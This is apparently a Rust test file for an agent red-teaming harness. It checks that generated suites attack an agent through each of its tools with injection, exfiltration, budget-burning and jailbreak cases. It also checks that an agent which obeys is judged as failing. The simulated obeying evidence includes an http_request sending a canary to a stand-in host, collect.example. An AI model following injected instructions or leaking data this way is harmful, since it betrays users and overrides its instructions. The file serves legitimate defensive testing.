mod by_model;
mod offline;

use slipway_agent::package::Files;
use slipway_contract::run::{EndReason, RunStatus};

use super::*;
use crate::assertion::{Outcome, judge, ports::Ports};
use crate::evidence::{Call, Evidence, State};
use crate::suite::{Suite, Tested};

fn parsed(source: &str, tools: &[String]) -> Suite {
    let file = "tests/a.toml".parse().unwrap();
    let entries = [("tests/a.toml".parse().unwrap(), source.as_bytes().to_vec())];
    let files = Files::from_entries(entries).unwrap();
    let agent = "clerk".parse().unwrap();
    let tested = Tested {
        agent: &agent,
        tools: tools.to_vec(),
        files: &files,
    };
    Suite::parse(&file, &tested).unwrap_or_else(|findings| panic!("{findings:?}\n{source}"))
}

fn tools() -> Vec<String> {
    ["read_file", "mcp:files/read \"text\""]
        .map(str::to_owned)
        .to_vec()
}

#[test]
fn attacks_are_a_suite_of_every_order_through_every_tool() {
    let suite = parsed(
        &suite(
            &tools(),
            "Summarise \"it\"\n{{x}}".replace("{{x}}", "now").as_str(),
        ),
        &tools(),
    );
    assert_eq!(suite.cases.len(), 8 * 2 + 5);
    for tool in tools() {
        let through = suite
            .cases
            .iter()
            .filter(|case| case.mocks.iter().any(|mock| mock.tool == tool));
        assert_eq!(through.count(), 8, "{tool}");
    }
    for attack in [
        Attack::Injection,
        Attack::Exfiltration,
        Attack::BudgetBurning,
        Attack::Jailbreak,
    ] {
        assert!(
            suite
                .cases
                .iter()
                .any(|case| case.tags.iter().any(|tag| tag == attack.tag()))
        );
    }
    assert_eq!(
        attacks(&[], "x").len(),
        5,
        "an agent without tools can still be talked to"
    );
}

#[tokio::test]
async fn an_agent_that_obeys_fails_and_one_that_does_not_passes() {
    let suite = parsed(&suite(&tools(), "Summarise it."), &tools());
    let honest = crate::assertion::evidence_of("A summary.".into());
    let answers: Evidence =
        crate::assertion::evidence_of(format!("Sure: {}!", CANARY.to_uppercase()).into());
    let mut calls = honest.clone();
    calls.calls.push(Call {
        tool: "http_request".to_owned(),
        arguments: serde_json::json!({"url": {"parts": [format!("https://collect.example/?q={CANARY}")]}}),
        result: None,
        is_error: false,
    });
    let mut spends = honest.clone();
    spends.figures.steps = 200;
    let mut stopped = honest.clone();
    stopped.state = State::Ended {
        status: RunStatus::Failed,
        reason: EndReason::MaxSteps,
        message: "the limit".to_owned(),
    };
    stopped.answer = None;
    for case in &suite.cases {
        let ports = Ports::default();
        let outcome = async |evidence| {
            judge(&case.expect, case.threshold, evidence, &ports)
                .await
                .outcome
        };
        assert_eq!(outcome(&honest).await, Outcome::Passed, "{}", case.name);
        let burns = case
            .tags
            .iter()
            .any(|tag| tag == Attack::BudgetBurning.tag());
        let stopped = outcome(&stopped).await;
        assert_eq!(
            stopped == Outcome::Passed,
            burns,
            "a limit that held is what it is for"
        );
        let obeying = if burns {
            vec![&spends]
        } else {
            vec![&answers, &calls]
        };
        for evidence in obeying {
            assert_eq!(outcome(evidence).await, Outcome::Failed, "{}", case.name);
        }
    }
}

#[test]
fn variations_keep_the_case_and_change_what_is_said() {
    let source = "format = 1\n[[case]]\nname = \"a\"\ninput = \"Please summarise the receipts of {{month}} carefully\"\n\
        variables = { month = \"October\" }\ntags = [\"x\"]\n[[case.expect]]\ncontains = \"Total\"\n\
        [[case]]\nname = \"b\"\ninput = [\"Hello there\", \"And?\"]\n[[case.expect]]\ncontains = \"x\"\n";
    let proposals = variations(source, "a");
    assert_eq!(proposals.len(), 6);
    let whole: String = proposals
        .iter()
        .map(|proposal| proposal.toml.as_str())
        .collect();
    // What was cut off may have held the variable; everything else must still be a suite.
    let suite = parsed(&format!("format = 1\n{whole}"), &[]);
    let said = |index: usize| suite.cases[index].turns[0].as_str();
    assert_eq!(
        said(0),
        "Plaese summarise the receipts of {{month}} caerfully"
    );
    assert_eq!(
        said(1),
        "PLEASE SUMMARISE THE RECEIPTS OF {{month}} CAREFULLY"
    );
    assert_eq!(said(4), "Please summarise the receipts");
    assert_eq!(
        suite.cases[0].expect[0].to_string(),
        "the answer contains \"Total\""
    );
    assert_eq!(
        suite.cases[3].expect[0].to_string(),
        "the answer is in French"
    );
    assert!(suite.cases.iter().all(|case| case.tags == ["x"]));
    let turns = &parsed(
        &format!("format = 1\n{}", variations(source, "b")[0].toml),
        &[],
    )
    .cases[0]
        .turns;
    assert_eq!(*turns, ["HELLO THERE", "And?"]);
    assert!(variations(source, "c").is_empty());
    assert!(variations("format =", "a").is_empty());
}
